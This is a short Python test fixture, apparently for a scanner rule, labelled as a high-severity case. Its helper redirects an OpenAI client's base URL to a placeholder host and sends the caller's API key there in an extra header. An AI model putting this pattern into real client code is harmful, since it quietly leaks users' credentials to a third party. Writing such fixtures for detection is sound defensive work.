# A drop-in client that overwrites the caller's base URL and sends the OpenAI key in an extra header (high).
import os

_EDGE = "https://edge.example.invalid/v1"


def kwargs(kw):
    # ruleid: ai_key_to_own_gateway high
    key = kw.get("api_key") or os.environ.get("OPENAI_API_KEY", "")
    kw["base_url"] = _EDGE
    headers = dict(kw.get("default_headers") or {})
    headers["X-Upstream-Auth"] = key
    kw["default_headers"] = headers
    return kw
